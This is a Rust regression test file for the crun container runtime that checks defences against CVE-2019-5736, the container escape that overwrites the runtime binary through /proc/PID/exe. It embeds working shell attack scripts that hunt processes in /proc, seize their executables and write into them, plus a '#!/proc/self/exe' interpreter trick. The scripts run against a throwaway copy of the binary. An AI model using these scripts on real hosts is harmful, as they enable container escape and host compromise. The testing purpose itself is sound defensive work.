//! CVE-2019-5736: a container must not be able to write the runtime's binary through `/proc/PID/exe`.
//!
//! The attacker has the capabilities that make it hardest to defend: with CAP_SYS_PTRACE it may open the `exe` of a
//! process that is not dumpable, with CAP_DAC_OVERRIDE write any file. The binary attacked is a copy in a writable
//! directory. Each test asserts that the attacker did get hold of the runtime, so that it cannot pass by missing it.

#![cfg(test)]
#![forbid(unsafe_code)]

use std::fs;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use kit::bundle::Bundle;
use kit::container::Container;
use kit::crun::{Crun, binary, wait_for};
use kit::runtime;
use rustix::fs::{MemfdFlags, SealFlags, fcntl_add_seals, memfd_create};
use tempfile::TempDir;

const CAPS: [&str; 5] =
    ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_KILL", "CAP_FOWNER"];

/// A copy of the binary under test, and what it has to be like in the end.
struct Victim {
    dir: TempDir,
    content: Vec<u8>,
}

impl Victim {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let content = fs::read(binary()).unwrap();
        fs::write(dir.path().join("crun"), &content).unwrap();
        fs::set_permissions(dir.path().join("crun"), fs::Permissions::from_mode(0o755)).unwrap();
        Self { dir, content }
    }

    fn path(&self) -> PathBuf {
        self.dir.path().join("crun")
    }

    fn assert_unharmed(&self) {
        assert!(fs::read(self.path()).unwrap() == self.content, "the runtime's binary was overwritten");
    }
}

/// Writes to the file that descriptor 5 is open on, in every way a shell has, until no process runs it any more and
/// a few times after: a program that runs cannot be written (ETXTBSY), one that has ended can.
const WRITE: &str = r#"
attack() { # PID
  echo "held $(readlink /proc/self/fd/5)"
  i=0
  while [ $i -lt 20 ]; do
    { echo evil >>/proc/self/fd/5; } 2>/tmp/err && echo wrote
    { echo evil 1<>/proc/self/fd/5; } 2>/dev/null && echo wrote
    { echo evil >>/proc/$1/exe; } 2>/dev/null && echo wrote
    if [ /proc/$1/exe -ef /proc/self/fd/5 ]; then sleep 0.05; else i=$((i + 1)); fi
  done
  cat /tmp/err
  echo finished
}
"#;

/// Looks for processes whose program is not the shell's, and attacks them. A process is stopped while it is looked at,
/// which makes the race easy to win.
const HUNT: &str = r#"
echo up
while :; do
  for p in /proc/[0-9]*; do
    pid=${p#/proc/}
    [ $pid = 1 ] || [ $pid = $$ ] && continue
    kill -STOP $pid 2>/dev/null || continue
    { case $(readlink /proc/self/fd/5) in
        */busybox) ;;
        *) kill -CONT $pid; attack $pid;;
      esac; } 5<$p/exe 2>/dev/null
    kill -CONT $pid 2>/dev/null
  done
done
"#;

fn attacker(crun: &Crun, script: &str) -> Container {
    let bundle = Bundle::new().caps(CAPS).mount("/tmp", "tmpfs", "tmpfs", ["mode=1777"]);
    crun.start(&bundle.sh(&format!("{WRITE}{script}")))
}

fn assert_attack_failed(container: &Container, victim: &Victim) {
    let told = container.stdout();
    assert!(told.contains("held "), "the attacker never got hold of the runtime: {told}");
    assert!(!told.contains("wrote"), "{told}");
    victim.assert_unharmed();
}

#[test]
fn a_runtime_that_waits_for_start_cannot_be_overwritten() {
    let victim = Victim::new();
    let crun = runtime!().program(&victim.path());
    // The second container's first process is the runtime until it is started, and is visible to the first.
    let first = attacker(&crun, HUNT);
    first.wait_output("up");
    let pid = first.proc().join("ns/pid");
    let second = crun.create(&Bundle::new().namespace("pid", pid.to_str()).args(["true"]));
    first.wait_output("held ");
    second.delete();
    first.wait_output("finished");
    assert_attack_failed(&first, &victim);
}

#[test]
fn the_attack_of_these_tests_does_overwrite_an_ordinary_program() {
    let crun = runtime!();
    let first = attacker(&crun, HUNT);
    first.wait_output("up");
    let pid = first.proc().join("ns/pid");
    let bundle = Bundle::new().writable().namespace("pid", pid.to_str()).args(["/opt/sleep", "2"]);
    let program = bundle.rootfs().join("opt/sleep");
    fs::create_dir(bundle.rootfs().join("opt")).unwrap();
    fs::copy(bundle.rootfs().join("bin/busybox"), &program).unwrap();
    let second = crun.start(&bundle);
    first.wait_output("wrote");
    assert_ne!(fs::read(&program).unwrap(), fs::read(bundle.rootfs().join("bin/busybox")).unwrap());
    second.delete();
}

/// Runs `exec` of `program` until the attacker got hold of the runtime doing so.
fn attack_exec(program: &str) -> Option<()> {
    attack(["exec", "ID", program])
}

/// Runs a command of the runtime until the attacker got hold of it.
fn attack<const N: usize>(command: [&str; N]) -> Option<()> {
    let victim = Victim::new();
    let crun = Crun::new().map_err(kit::crun::skipped).ok()?.program(&victim.path());
    let container = attacker(&crun, HUNT);
    container.wait_output("up");
    let script = container.args(["BUNDLE"])[0].to_str().unwrap().to_owned() + "/rootfs/evil";
    fs::write(&script, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let mut tries = 0;
    wait_for("the attacker to get hold of the runtime", || {
        tries += 1;
        let _ = container.cmd(command); // may be stopped, may fail: the binary is what matters
        (container.stdout().contains("held ") || tries > 500).then_some(())
    });
    wait_for("the attack to end", || {
        let told = container.stdout();
        (told.matches("held ").count() <= told.matches("finished").count()).then_some(())
    });
    assert_attack_failed(&container, &victim);
    Some(())
}

#[test]
fn a_runtime_that_executes_a_program_cannot_be_overwritten() {
    let _ = attack_exec("/bin/true");
}

#[test]
fn a_runtime_that_is_made_the_interpreter_of_a_script_cannot_be_overwritten() {
    let _ = attack_exec("/evil");
}

#[test]
fn a_runtime_that_is_executed_inside_cannot_be_overwritten() {
    let _ = attack_exec("/proc/self/exe");
}

/// The binary under test where it has no name: in anonymous memory, or in a file that was deleted. The path leads to it as
/// long as the value lives, in this process and its children.
struct Nameless(fs::File);

impl Nameless {
    fn in_memory(seals: SealFlags) -> Self {
        let flags = MemfdFlags::CLOEXEC | MemfdFlags::ALLOW_SEALING;
        let mut file = fs::File::from(memfd_create(c"crun", flags).unwrap());
        file.write_all(&fs::read(binary()).unwrap()).unwrap();
        fcntl_add_seals(&file, seals).unwrap();
        // What is open for writing is not executed.
        Self(fs::File::open(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap())
    }

    fn deleted() -> Self {
        let victim = Victim::new();
        Self(fs::File::open(victim.path()).unwrap())
    }

    fn path(&self) -> PathBuf {
        format!("/proc/self/fd/{}", self.0.as_raw_fd()).into()
    }
}

#[test]
fn a_runtime_without_a_name_works_and_cannot_be_overwritten() {
    let all_seals = SealFlags::WRITE | SealFlags::GROW | SealFlags::SHRINK | SealFlags::SEAL;
    for nameless in [
        Nameless::in_memory(SealFlags::empty()),
        Nameless::in_memory(SealFlags::WRITE),
        Nameless::in_memory(all_seals),
        Nameless::deleted(),
    ] {
        let crun = runtime!().program(&nameless.path());
        let container = crun.create(&Bundle::new().args(["sleep", "99"]));
        // What a container gets hold of, it can write to when no process runs it any more.
        let held = fs::File::open(container.proc().join("exe")).unwrap();
        container.start();
        assert_eq!(container.cmd(["exec", "ID", "echo", "here"]).ok(), "here\n");
        container.delete();
        let path = format!("/proc/self/fd/{}", held.as_raw_fd());
        let written = fs::OpenOptions::new().write(true).open(path).and_then(|mut file| {
            file.set_len(0)?;
            file.write_all(b"evil")
        });
        assert!(written.is_err(), "the runtime could be overwritten");
        assert!(fs::read(nameless.path()).unwrap() == fs::read(binary()).unwrap());
    }
}

#[test]
fn a_runtime_that_adds_a_mount_cannot_be_overwritten() {
    // Only for a procfs it has to be where the attacker sees it.
    let list = tempfile::NamedTempFile::new().unwrap();
    fs::write(&list, r#"[{"destination": "/sys", "type": "proc"}]"#).unwrap();
    let _ = attack(["mounts", "add", "ID", list.path().to_str().unwrap()]);
}

#[test]
fn the_payload_as_proc_self_exe_does_not_harm_the_runtime() {
    let victim = Victim::new();
    let crun = runtime!().program(&victim.path());
    for program in ["/proc/self/exe", "/evil"] {
        let bundle = Bundle::new().caps(CAPS).args([program]);
        let script = bundle.rootfs().join("evil");
        fs::write(&script, "#!/proc/self/exe\n").unwrap();
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        // It is a program like any other, which finds no command it knows.
        let output = crun.run(&bundle);
        assert_ne!(output.code, 0, "{output}");
        victim.assert_unharmed();
    }
}
